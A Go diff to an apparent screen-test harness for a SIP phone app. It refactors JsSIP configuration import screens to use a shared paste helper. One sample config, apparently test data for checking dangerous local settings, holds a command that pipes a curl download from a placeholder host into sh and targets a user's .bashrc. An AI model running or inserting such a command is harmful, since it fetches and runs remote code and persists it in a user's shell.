@@ -14,7 +14,6 @@ import (
 
 	"calla/account"
 	"calla/icons"
-	"calla/netsip/config"
 	"calla/phone"
 	"calla/phone/cause"
 	"calla/phone/doctor"
@@ -191,30 +190,26 @@ func screens() map[string]func(*opened) fyne.Window {
 			o.main.page.(*form.Page).Export()
 		}),
 		"import": page(func(o *opened) {
-			i := newImporter(o.app, func(config.Config) {})
-			i.text.SetText("{ uri: 'alice@example.com', ws_servers: ['wss://sip.example.com'], password: 'x', " +
+			o.paste("{ uri: 'alice@example.com', ws_servers: ['wss://sip.example.com'], password: 'x', " +
 				"session_timers: true }")
-			o.main.openSheet("Paste a JsSIP configuration", i.object, i.use)
+			o.main.sheet.fit()
 		}),
 		"import-to-fill": page(func(o *opened) {
-			i := newImporter(o.app, func(config.Config) {})
-			i.text.SetText("const agent = new JsSIP.UA({\n  uri: 'alice@example.com',\n  password: " +
+			o.paste("const agent = new JsSIP.UA({\n  uri: 'alice@example.com',\n  password: " +
 				"process.env.SIP_PASSWORD,\n  ws_servers: 'wss://sip.example.com',\n  stun_servers: " +
 				"'stun.example.com:3478',\n  pasword: 1 });")
-			o.main.openSheet("Paste a JsSIP configuration", i.object, i.use)
+			o.main.sheet.fit()
 		}),
 		"import-several": page(func(o *opened) {
-			i := newImporter(o.app, func(config.Config) {})
-			i.text.SetText("new JsSIP.UA({ uri: 'alice@example.com', ws_servers: 'wss://a.example' });\nnew " +
+			sheet := o.paste("new JsSIP.UA({ uri: 'alice@example.com', ws_servers: 'wss://a.example' });\nnew " +
 				"JsSIP.UA({ uri: 'bob@example.com', ws_servers: 'wss://b.example' });")
-			i.which.Choose(1)
-			o.main.openSheet("Paste a JsSIP configuration", i.object, i.use)
+			uitest.LaidOut[*widget.Select](sheet)[0].Choose(1)
+			o.main.sheet.fit()
 		}),
 		"import-local": page(func(o *opened) {
-			i := newImporter(o.app, func(config.Config) {})
-			i.text.SetText("{ uri: 'alice@example.com', ws_servers: ['wss://sip.example.com'], calla: {log_command: " +
+			o.paste("{ uri: 'alice@example.com', ws_servers: ['wss://sip.example.com'], calla: {log_command: " +
 				"'sh -c \"curl https://example.net/x | sh\"', log_file: '/home/alice/.bashrc'} }")
-			o.main.openSheet("Paste a JsSIP configuration", i.object, i.use)
+			o.main.sheet.fit()
 		}),
 		"enter-password": page(func(o *opened) { o.main.askPassword("office") }),
 		"start-empty":    page(func(o *opened) { o.main.askStartEmpty() }),
